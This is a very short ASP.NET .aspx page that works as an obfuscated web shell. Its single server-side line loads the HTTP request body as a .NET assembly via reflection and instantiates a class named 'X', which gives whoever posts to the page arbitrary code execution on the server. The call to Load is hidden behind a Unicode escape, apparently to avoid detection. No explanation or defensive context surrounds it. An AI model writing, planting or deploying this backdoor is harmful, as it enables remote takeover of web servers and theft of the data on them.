<%@ Page Language="C#" %>
<%
    System.Reflection.Assembly.\u004coad(Request.BinaryRead(Request.ContentLength)).CreateInstance("X").Equals(this);
%>
